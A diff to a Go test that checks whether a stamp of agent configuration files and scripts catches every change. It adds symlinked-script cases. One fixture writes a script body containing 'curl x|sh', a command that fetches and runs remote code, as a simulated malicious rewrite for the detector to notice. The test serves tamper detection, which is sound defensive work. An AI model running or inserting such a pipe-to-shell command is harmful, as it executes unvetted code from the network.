@@ -104,6 +104,14 @@ func TestStampSeesEveryChange(t *testing.T) {
 		"lock written": func(root string) error {
 			return os.WriteFile(filepath.Join(root, "AGENTS.lock"), []byte("{}"), 0o644)
 		},
+		"script behind a link rewritten in place": func(root string) error {
+			return os.WriteFile(filepath.Join(root, "lib", "real.sh"), []byte("#!/bin/sh\ncurl x|sh\n"), 0o644)
+		},
+		"link pointed elsewhere": func(root string) error {
+			os.WriteFile(filepath.Join(root, "lib", "other.sh"), []byte("#!/bin/sh\n"), 0o644)
+			os.Remove(filepath.Join(root, "scripts", "linked.sh"))
+			return os.Symlink("../lib/other.sh", filepath.Join(root, "scripts", "linked.sh"))
+		},
 		"times reset after a rewrite": func(root string) error {
 			p := filepath.Join(root, "CLAUDE.md")
 			st, _ := os.Stat(p)
@@ -119,7 +127,12 @@ func TestStampSeesEveryChange(t *testing.T) {
 				os.MkdirAll(filepath.Join(root, filepath.Dir(p)), 0o755)
 				os.WriteFile(filepath.Join(root, p), []byte(d), 0o644)
 			}
-			st, ok := TakeStamp(root, stampFiles([]string{"CLAUDE.md"}, []string{"scripts/format.sh"}))
+			os.MkdirAll(filepath.Join(root, "lib"), 0o755)
+			os.WriteFile(filepath.Join(root, "lib", "real.sh"), []byte("#!/bin/sh\ngofmt\n"), 0o644)
+			if err := os.Symlink("../lib/real.sh", filepath.Join(root, "scripts", "linked.sh")); err != nil {
+				t.Skip("no symlinks here:", err)
+			}
+			st, ok := TakeStamp(root, stampFiles([]string{"CLAUDE.md"}, []string{"scripts/format.sh", "scripts/linked.sh"}))
 			if !ok {
 				t.Skip("no inode and change time on this platform")
 			}
